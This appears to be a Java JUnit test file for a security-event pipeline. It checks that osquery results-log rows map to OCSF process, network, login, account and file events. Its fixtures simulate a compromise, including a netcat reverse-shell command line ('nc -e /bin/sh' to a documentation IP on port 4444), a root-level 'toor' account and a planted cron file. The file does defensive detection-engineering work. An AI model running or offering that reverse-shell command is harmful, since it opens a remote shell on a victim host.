package io.socaas.events.ocsf;

import static io.socaas.events.ocsf.MappedRecords.assertBaseEventOf;
import static io.socaas.events.ocsf.MappedRecords.assertClass;
import static io.socaas.events.ocsf.MappedRecords.assertProduct;
import static io.socaas.events.ocsf.MappedRecords.json;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import org.junit.jupiter.api.Test;

/**
 * osquery's results log, one JSON object per row as osqueryd's filesystem logger writes it (and Fleet
 * forwards it): the envelope of osquery's logging documentation (osquery.readthedocs.io, "Logging
 * osquery", differential logs) and of Elastic's osquery integration test samples
 * (packages/osquery/data_stream/result/_dev/test/pipeline/test-osquery.log), with the columns of the
 * tables the common packs query (osquery's schema: processes, process_open_sockets, listening_ports,
 * logged_in_users, users, file_events). A row is read by the columns it carries, not by its query's
 * name; a row of any other table stays a Base Event of osquery with its columns.
 */
class OsqueryResultsMappingsTest {

    private static String row(String name, String action, String columns) {
        return """
                {"name":"%s","hostIdentifier":"web-03.example.org","calendarTime":"Sun Mar  1 09:59:58 2026 UTC",
                 "unixTime":1772359198,"epoch":0,"counter":12,"numerics":false,
                 "decorations":{"host_uuid":"4AB2906D-5516-5794-AF54-86D1D7F533F3","username":"ops"},
                 "columns":%s,"action":"%s"}""".formatted(name, columns, action);
    }

    @Test
    void processRowsAreProcessActivity() throws Exception {
        JsonNode started = json(row("pack_incident-response_processes", "added", """
                {"pid":"24013","name":"nc","path":"/usr/bin/nc.openbsd","cmdline":"nc -e /bin/sh 203.0.113.9 4444",
                 "cwd":"/tmp","parent":"23990","uid":"33","gid":"33","on_disk":"1","start_time":"1772359190"}"""));
        assertProduct(started, "osquery");
        assertClass(started, 1007, 1);
        assertThat(started.at("/process/pid").asInt()).isEqualTo(24013);
        assertThat(started.at("/process/cmd_line").asText()).isEqualTo("nc -e /bin/sh 203.0.113.9 4444");
        assertThat(started.at("/process/file/path").asText()).isEqualTo("/usr/bin/nc.openbsd");
        assertThat(started.at("/process/parent_process/pid").asInt()).isEqualTo(23990);
        assertThat(started.at("/device/hostname").asText()).isEqualTo("web-03.example.org");
        assertThat(started.at("/device/uid").asText()).isEqualTo("4AB2906D-5516-5794-AF54-86D1D7F533F3");
        assertThat(started.at("/metadata/log_name").asText()).isEqualTo("pack_incident-response_processes");
        assertThat(started.get("time").asLong()).isEqualTo(MappedRecords.epochMillis("2026-03-01T09:59:58Z"));

        JsonNode gone = json(row("processes", "removed", """
                {"pid":"24013","name":"nc","path":"/usr/bin/nc.openbsd","cmdline":"nc -e /bin/sh 203.0.113.9 4444"}"""));
        assertClass(gone, 1007, 2);
    }

    @Test
    void socketAndListeningPortRowsAreNetworkActivity() throws Exception {
        JsonNode socket = json(row("pack_incident-response_process_open_sockets", "added", """
                {"pid":"24013","fd":"3","socket":"991823","family":"2","protocol":"6","local_address":"192.0.2.30",
                 "remote_address":"203.0.113.9","local_port":"51514","remote_port":"4444","path":"/usr/bin/nc.openbsd",
                 "state":"ESTABLISHED","net_namespace":"4026531992"}"""));
        assertClass(socket, 4001, 1);
        assertThat(socket.at("/src_endpoint/ip").asText()).isEqualTo("192.0.2.30");
        assertThat(socket.at("/dst_endpoint/ip").asText()).isEqualTo("203.0.113.9");
        assertThat(socket.at("/dst_endpoint/port").asInt()).isEqualTo(4444);
        assertThat(socket.at("/connection_info/protocol_num").asInt()).isEqualTo(6);
        assertThat(socket.at("/actor/process/pid").asInt()).isEqualTo(24013);

        JsonNode listening = json(row("pack_incident-response_listening_ports", "added", """
                {"pid":"811","port":"31337","protocol":"6","family":"2","address":"0.0.0.0","fd":"5","socket":"20411",
                 "path":"","net_namespace":"4026531992"}"""));
        assertClass(listening, 4001, 7);
        assertThat(listening.at("/src_endpoint/port").asInt()).isEqualTo(31337);
    }

    @Test
    void loginAccountAndFileRows() throws Exception {
        JsonNode login = json(row("pack_incident-response_logged_in_users", "added", """
                {"type":"user","user":"deploy","tty":"pts/1","host":"198.51.100.7","time":"1772359100","pid":"23811"}"""));
        assertClass(login, 3002, 1);
        assertThat(login.at("/user/name").asText()).isEqualTo("deploy");
        assertThat(login.at("/src_endpoint/ip").asText()).isEqualTo("198.51.100.7");

        JsonNode local = json(row("logged_in_users", "removed", """
                {"type":"user","user":"ops","tty":"tty1","host":"","time":"1772359100","pid":"1211"}"""));
        assertClass(local, 3002, 2);
        assertThat(local.at("/src_endpoint/ip").isMissingNode()).isTrue();

        JsonNode account = json(row("pack_incident-response_users", "added", """
                {"uid":"0","gid":"0","uid_signed":"0","gid_signed":"0","username":"toor","description":"",
                 "directory":"/root","shell":"/bin/bash","uuid":""}"""));
        assertClass(account, 3001, 1);
        assertThat(account.at("/user/name").asText()).isEqualTo("toor");
        assertThat(account.at("/user/uid").asText()).isEqualTo("0");

        JsonNode file = json(row("file_events", "added", """
                {"target_path":"/etc/cron.d/update","category":"configuration","action":"CREATED","transaction_id":"0",
                 "inode":"1311","uid":"0","gid":"0","mode":"0644","size":"61","atime":"1772359195","mtime":"1772359195",
                 "ctime":"1772359195","md5":"","sha1":"","sha256":"5f70bf18a086007016e948b04aed3b82103a36bea41755b6cddfaf10ace3c6ef",
                 "hashed":"1","time":"1772359195","eid":"2211"}"""));
        assertClass(file, 1001, 1);
        assertThat(file.at("/file/path").asText()).isEqualTo("/etc/cron.d/update");
        assertThat(file.at("/file/hashes/0/value").asText())
                .isEqualTo("5f70bf18a086007016e948b04aed3b82103a36bea41755b6cddfaf10ace3c6ef");
    }

    @Test
    void otherRowsAreBaseEventsWithTheirColumnsAndOtherJsonIsNotClaimed() throws Exception {
        // Elastic's sample: a mount removed (it-compliance pack)
        JsonNode mounts = json("""
                {"action":"removed","calendarTime":"Thu Dec 28 14:40:08 2017 UTC","columns":{"blocks":"122061322","blocks_available":"75966945","blocks_free":"121274885","blocks_size":"4096","device":"/dev/disk1s4","device_alias":"/dev/disk1s4","flags":"345018372","inodes":"9223372036854775807","inodes_free":"9223372036854775804","path":"/private/var/vm","type":"apfs"},"counter":"1","decorations":{"host_uuid":"4AB2906D-5516-5794-AF54-86D1D7F533F3","username":"tsg"},"epoch":"0","hostIdentifier":"192-168-0-4.rdsnet.ro","name":"pack_it-compliance_mounts","unixTime":"1514472008"}""");
        assertBaseEventOf(mounts, "osquery");
        assertThat(mounts.at("/unmapped/columns/device").asText()).isEqualTo("/dev/disk1s4");
        assertThat(mounts.get("time").asLong()).isEqualTo(MappedRecords.epochMillis("2017-12-28T14:40:08Z"));

        // Elastic's sample: osquery's own schedule statistics carry a query's name, not a process
        JsonNode schedule = json("""
                {"action":"added","calendarTime":"Mon Jan  8 14:51:55 2018 UTC","columns":{"average_memory":"0","avg_system_time":"0","avg_user_time":"0","executions":"40","interval":"60","last_executed":"1515423113","name":"pack_ossec-rootkit_adore_rootkit","output_size":"0","wall_time":"0"},"counter":"0","decorations":{"host_uuid":"72E1287B-D1BC-4FC6-B9D8-64F4352776A9","username":"ubuntu"},"epoch":"0","hostIdentifier":"ubuntu-xenial","name":"pack_osquery-monitoring_schedule","unixTime":"1515423115"}""");
        assertBaseEventOf(schedule, "osquery");

        // a JSON application log with a name and columns but no osquery envelope
        JsonNode other = json("""
                {"name":"report-export","columns":{"pid":"1","cmdline":"x"},"time":"2026-03-01T09:59:58Z"}""");
        assertThat(other.at("/metadata/product/name").asText()).isNotEqualTo("osquery");
    }
}
